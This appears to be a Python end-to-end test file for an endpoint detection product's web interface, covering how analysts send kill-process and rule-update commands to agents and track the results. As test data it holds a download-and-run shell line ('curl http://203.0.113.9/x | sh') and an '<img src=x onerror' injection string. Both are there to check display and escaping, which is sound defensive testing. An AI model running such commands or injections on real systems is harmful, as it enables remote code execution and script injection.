# SPDX-License-Identifier: Apache-2.0
"""Telling endpoints what to do, from where people see that it is needed, and what became of it; in Debian's Chromium, against a real
server, with agents made of Python."""
import contextlib
import os
import re
import subprocess

import world as w
import lab
from people_client import Person
from stage import api, browser, picture, world

SHELL = {"pid": 101, "process_key": "%016x" % 0x101}


@contextlib.contextmanager
def person(name, path, **kw):
    with browser().person(world().server, **kw) as p:
        p.sign_in(name, path=path)
        yield p


def someone(name):
    """As a program."""
    p = Person(world().server)
    assert p.sign_in(name, w.PASSWORD).status == 200
    return p


def order(who, peer, **body):
    answer = who.post("/endpoints/%s/commands" % peer.id, body)
    assert answer.status == 201, answer
    return answer.json


def dialog(p):
    return p.page.get_by_role("dialog").last


def press(p, name):
    dialog(p).get_by_role("button", name=name, exact=True).click()


def stands(p, text, **how):
    dialog(p).get_by_role("status").filter(has_text=text).wait_for(**how)


def at_the_alert(p):
    p.rows("Alerts").first.get_by_role("link").click()
    p.heading("Triage")


def newest(peer):
    return api(world(), "/commands?endpoint=%s&limit=1" % peer.id)["items"][0]


def alone(name, hostname):
    """An endpoint that nobody else told anything."""
    return world().peer(name, hostname)


def settle_open(peer):
    for item in w.take(peer):
        w.done(peer, item, {})


def test_the_process_of_an_alert_is_ended_when_the_agent_says_so():
    made = world()
    settle_open(made.web)
    with person("rita", "/alerts?q=Download") as p:
        at_the_alert(p)
        alert = p.page.url.rsplit("/", 1)[1]
        p.button("End this process").click()
        box = dialog(p)
        box.get_by_text("www-data").wait_for()
        for text in ("web-1", "sh -c curl http://203.0.113.9/x | sh", "101", "%016x" % 0x101):
            assert box.get_by_text(text, exact=True).count() == 1, text
        assert p.field("Reason").input_value() == "Alert " + alert
        assert not p.axe(), p.axe()
        picture(p, "command-send")
        p.page.emulate_media(color_scheme="dark")
        assert not p.axe("color-contrast"), p.axe("color-contrast")
        p.page.emulate_media(color_scheme="light")
        p.field("Reason").fill("Alert %s: download into a shell" % alert)
        press(p, "End this process")
        stands(p, "It waits until the endpoint asks")
        item, = w.take(made.web)
        assert (item["type"], item["payload"]) == ("kill_process", dict(SHELL, boot_id=w.BOOT)), item
        stands(p, "Its agent has not answered yet")
        assert box.get_by_text("done").count() == 0
        w.done(made.web, item, {"action": "kill_process", "result": "done", "detail": "", **SHELL})
        stands(p, "Its agent says that it is done")
        box.get_by_role("link", name="Open the command").click()
        box = dialog(p)
        box.get_by_text("Sent by").wait_for()
        stands(p, "Its agent says that it is done")
        assert box.get_by_text("rita", exact=True).count() == 1
        assert not p.axe(), p.axe()
        box.get_by_role("link", name="Open alert " + alert).click()
        told = p.page.locator("section").filter(has=p.page.get_by_role("heading", name="Commands about this process"))
        told.get_by_text("success").wait_for()
        told.get_by_text("done", exact=True).wait_for()
        p.page.get_by_role("link", name="Process tree and timeline").click()
        told.get_by_text("success").wait_for()
    c = newest(made.web)
    assert (c["created_by"], c["state"], c["reason"]) == ("rita", "success", "Alert %s: download into a shell" % alert), c


def test_what_an_agent_answers_is_text():
    made, rita = world(), someone("rita")
    peer = alone("evil", w.MARKUP[:60] + w.BIDI)
    order(rita, peer, type="kill_process", payload=SHELL, reason=w.BIDI)
    w.done(peer, w.take(peer)[0], {"result": w.MARKUP, "detail": w.CONTROLS + w.BIDI, w.MARKUP: w.LONG[:1500], "deep": {"a": [[{"b": w.BIDI}]]}})
    order(rita, peer, type="update_rules")
    w.done(peer, w.take(peer)[0], {}, "failed")
    with person("vic", "/commands?endpoint=" + peer.id) as p:
        row = p.rows("Commands").filter(has_text="success")
        row.get_by_text("<img src=x onerror").first.wait_for()
        assert row.locator(".ctl").filter(has_text="U+202E").count() > 0
        row.click()
        box = dialog(p)
        box.get_by_text("End a process").wait_for()
        box.get_by_text(w.MARKUP, exact=True).first.wait_for()
        # The name that the agent made up does not push what it answered out of sight.
        place = box.locator("dd").filter(has_text=w.MARKUP).bounding_box()
        assert place["width"] > 200 and place["x"] + place["width"] <= 1440, place
        assert box.locator(".ctl").filter(has_text="\\e").count() == 1
        box.get_by_role("button", name=re.compile("^Show all 1,5")).click()
        assert p.page.locator("img, script:not([src])").count() == 0 and p.page.title() == "Commands · WazabiEDR"
        assert not p.axe(), p.axe()
        p.page.keyboard.press("Escape")
        box.wait_for(state="detached")
        p.rows("Commands").filter(has_text="failed").click()
        stands(p, "says that it was not done")
        p.page.go_back()
        dialog(p).wait_for(state="detached")


def test_what_waits_is_withdrawn_and_what_was_given_is_not():
    made = world()
    peer = alone("late", "late-1")
    with person("rita", "/endpoints/" + peer.id) as p:
        p.button("Ask for its rules").click()
        press(p, "Cancel")
        dialog(p).wait_for(state="detached")
        assert api(made, "/commands?endpoint=" + peer.id)["items"] == []
        p.button("Ask for its rules").click()
        press(p, "Send")
        stands(p, "It waits until the endpoint asks")
        press(p, "Withdraw")
        stands(p, "It was withdrawn before")
        assert newest(peer)["state"] == "cancelled" and w.take(peer) == []
        p.keys("Escape")
        p.page.locator("table.small").get_by_text("cancelled").wait_for()
        p.button("Ask for its rules").click()
        press(p, "Send")
        stands(p, "It waits until the endpoint asks")
        # The page has not heard yet that the endpoint was given it.
        c = newest(peer)
        answer = p.context.request.get(made.server.url + "/api/v1/commands/" + c["id"]).body()
        p.page.route("**/api/v1/commands/" + c["id"],
                     lambda r: r.fulfill(body=answer, content_type="application/json") if r.request.method == "GET" else r.continue_())
        assert [i["id"] for i in w.take(peer)] == [c["id"]]
        press(p, "Withdraw")
        dialog(p).get_by_role("alert").get_by_text("It can no longer be withdrawn").wait_for()
        p.page.unroute("**/api/v1/commands/" + c["id"])
        stands(p, "Its agent has not answered yet")
        assert dialog(p).get_by_role("button", name="Withdraw").count() == 0


def test_what_nobody_answered_in_time_has_expired():
    made, rita = world(), someone("rita")
    given, waits = alone("given", "given-1"), alone("waits", "waits-1")
    for peer in (given, waits):
        order(rita, peer, type="update_rules", expires_in_seconds=10)
    assert len(w.take(given)) == 1
    with person("vic", "/commands?endpoint=" + given.id) as g, person("vic", "/commands?endpoint=" + waits.id) as n:
        for p in (g, n):
            p.rows("Commands").first.click()
        # Ten seconds from the order, and the page looks once a second.
        stands(g, "no answer came in time: whether it was done is not known", timeout=40000)
        stands(n, "it was never given it", timeout=40000)
        for p in (g, n):
            p.rows("Commands").get_by_text("expired").wait_for()
            assert dialog(p).get_by_text("There is no answer.").count() == 1


def test_only_those_who_may_see_how_to_act():
    made = world()
    places = ["/endpoints/" + made.web.id, "/endpoints/%s/processes/%016x" % (made.web.id, 0x101), "/hunt?range=all&process_key=%016x" % 0x103,
              "/commands?endpoint=%s&state=pending" % made.web.id]
    order(someone("rita"), made.web, type="update_rules", expires_in_seconds=3600)

    def acts(name, wanted):
        found = []

        def see(buttons):
            want = wanted[len(found)]
            if want:
                buttons.nth(want - 1).wait_for()
            found.append(buttons.count())
        with person(name, "/alerts?q=Download") as p:
            at_the_alert(p)
            see(p.button("End this process"))
            p.visit(places[0])
            p.page.get_by_text("Last heartbeat").wait_for()
            see(p.button("Ask for its rules"))
            p.visit(places[1])
            p.rows("Timeline").first.wait_for()
            p.page.locator(".tree").get_by_text("nginx").first.wait_for()
            see(p.page.get_by_role("button", name=re.compile("^End ")))
            p.visit(places[2])
            p.rows("Events").first.click()
            dialog(p).get_by_text("Process tree").wait_for()
            see(dialog(p).get_by_role("button", name="End this process"))
            p.visit(places[3])
            p.rows("Commands").first.click()
            stands(p, "It waits until the endpoint asks")
            see(dialog(p).get_by_role("button", name="Withdraw"))
        assert found == wanted, found
    acts("ana", [0, 0, 0, 0, 0])
    # In the tree: the process itself in the head and at its line, its parent, the child that runs; the one that ended has none.
    acts("rita", [1, 1, 4, 1, 1])
    settle_open(made.web)


def test_processes_are_ended_from_the_tree_and_from_an_event():
    made = world()
    settle_open(made.web)
    with person("rita", "/endpoints/%s/processes/%016x" % (made.web.id, 0x101)) as p:
        p.page.locator(".tree").get_by_role("button", name="End process nginx 100").focus()
        p.page.keyboard.press("Enter")
        dialog(p).get_by_text("nginx -g daemon off;").wait_for()
        p.field("Reason").fill("by keyboard")
        p.keys("Tab", "Tab", "Tab", "Enter")
        stands(p, "It waits until the endpoint asks")
        assert newest(made.web)["payload"] == {"pid": 100, "process_key": "%016x" % 0x100, "boot_id": w.BOOT}
        p.keys("Shift+Tab", "Shift+Tab", "Enter")  # from Close over the link to Withdraw
        stands(p, "It was withdrawn before")
        p.until("document.activeElement.textContent === 'Close'")
        p.keys("Enter")
        dialog(p).wait_for(state="detached")
        p.until("document.activeElement.ariaLabel === 'End process nginx 100'")
        p.visit("/hunt?range=all&type=dns_query&process_key=%016x" % 0x102)
        p.rows("Events").first.click()
        press(p, "End this process")
        dialog(p).get_by_text("This process was seen to end").wait_for()
        p.page.keyboard.press("Escape")
        p.page.get_by_role("dialog").get_by_text("This process was seen to end").wait_for(state="detached")
        dialog(p).get_by_text("Process tree").wait_for()  # that of the event stayed


def test_a_refusal_and_a_server_that_is_away_are_told_as_they_are():
    made = world()
    silent = w.Peer(made.server, made.lab.folder, "silent")
    assert silent.enroll(hostname="silent-1").status == 201
    w.send(silent, "kernel.critical", 1, [w.create(1, w.now_us(), 7, "/bin/x", "x", 0x77, 0x1)])
    full = alone("full", "full-1")
    boss = someone("admin")
    once = boss.post("/users", {"username": "rob", "role": "responder", "groups": None})
    assert once.status == 201, once
    w.settle(made.server, "rob", once.json["password"])
    with person("rob", "/endpoints/%s/processes/%016x" % (silent.id, 0x77), refused=True, away=True) as p:
        p.button("End this process").click()
        dialog(p).get_by_text("This endpoint is not connected now").wait_for()
        press(p, "End this process")
        dialog(p).get_by_role("alert").get_by_text("Nothing was sent. the endpoint has not said in which boot it is").wait_for()
        press(p, "Cancel")
        for _ in range(32):
            order(boss, full, type="update_rules")
        p.visit("/endpoints/" + full.id)
        p.button("Ask for its rules").click()
        press(p, "Send")
        dialog(p).get_by_role("alert").get_by_text("Nothing was sent. 32 commands wait for this endpoint already").wait_for()
        made.server.stop()
        press(p, "Send")
        dialog(p).get_by_role("alert").get_by_text("Whether it was sent is not known. The server does not answer.").wait_for()
        made.server.start()
        p.page.get_by_text("What you see may be old").wait_for(state="detached", timeout=30000 * lab.SLOW)
        assert boss.patch("/users/" + once.json["id"], {"role": "analyst"}).status == 200
        press(p, "Send")
        dialog(p).get_by_role("alert").get_by_text("Nothing was sent.").wait_for()
        p.page.locator("main").get_by_role("button", name="Ask for its rules", include_hidden=True).wait_for(state="detached")
        assert dialog(p).get_by_role("alert").count() == 1  # it still says so
    assert len(api(made, "/commands?endpoint=%s&limit=50" % full.id)["items"]) == 32


def test_the_list_is_filtered_goes_on_and_is_reached_with_the_keyboard():
    made, rita = world(), someone("rita")
    many = alone("many", "many-1")
    for _ in range(210):
        assert rita.delete("/commands/" + order(rita, many, type="update_rules")["id"]).status == 204
    order(rita, many, type="kill_process", payload=SHELL)
    with person("vic", "/alerts") as p:
        p.rows("Alerts").first.wait_for()
        p.keys("g", "c")
        p.heading("Commands")
        p.page.wait_for_url("**/commands")
        p.rows("Commands").first.wait_for()
        p.keys("j", "Enter")
        dialog(p).get_by_text("many-1").wait_for()
        p.keys("Escape")
        dialog(p).wait_for(state="detached")
        p.visit("/commands?endpoint=" + many.id)
        p.page.get_by_text("200 and more commands").wait_for()
        p.rows("Commands").first.focus()
        p.keys("End")
        p.page.get_by_text("211 commands").wait_for()
        p.choose("State", "pending")
        p.page.get_by_text("1 commands").wait_for()
        p.choose("Type", "Ask for its rules")
        p.page.get_by_text("No command matches").wait_for()
        assert "state=pending" in p.page.url and "type=update_rules" in p.page.url, p.page.url
        p.page.get_by_role("link", name="Take the filters away").click()
        p.rows("Commands").first.wait_for()
        # What the agent answers is in the list by itself.
        p.visit("/commands?type=kill_process&endpoint=" + many.id)
        p.rows("Commands").get_by_text("pending").wait_for()
        w.done(many, w.take(many)[0], {"result": "failed", "detail": "no such process"}, "failed")
        p.rows("Commands").get_by_text("failed: no such process").wait_for()


def test_a_real_agent_ends_a_real_process():
    lab.need_root()
    with lab.Lab() as l:
        s = l.server({"fleet": {"checkin_interval_s": 30, "command_poll_s": 1}})
        w.settle(s, "admin", w.first_password(s))
        agent = l.agent()
        agent.enroll(s)
        agent.start("--source", "proc")
        line = ["sleep", "600.%d" % os.getpid()]
        with subprocess.Popen(line) as sleeper:
            try:
                row = lab.wait_for("the process to be seen", 60, lambda: next(iter(s.sql(
                    "SELECT process_key FROM events WHERE event_type = 'process_create' AND pid = %d" % sleeper.pid)), None), every=0.5)
                with browser().person(s) as p:
                    p.sign_in("admin", path="/endpoints/%s/processes/%s" % (agent.agent_id, row["process_key"]))
                    p.button("End this process").click()
                    dialog(p).get_by_text(" ".join(line), exact=True).wait_for()
                    press(p, "End this process")
                    assert sleeper.wait(timeout=60 * lab.SLOW) == -9
                    stands(p, "Its agent says that it is done")
                    dialog(p).get_by_text("kill_process", exact=True).wait_for()
                    dialog(p).get_by_text(str(sleeper.pid), exact=True).first.wait_for()
            finally:
                sleeper.kill()
        agent.stop()


if __name__ == "__main__":
    lab.main()
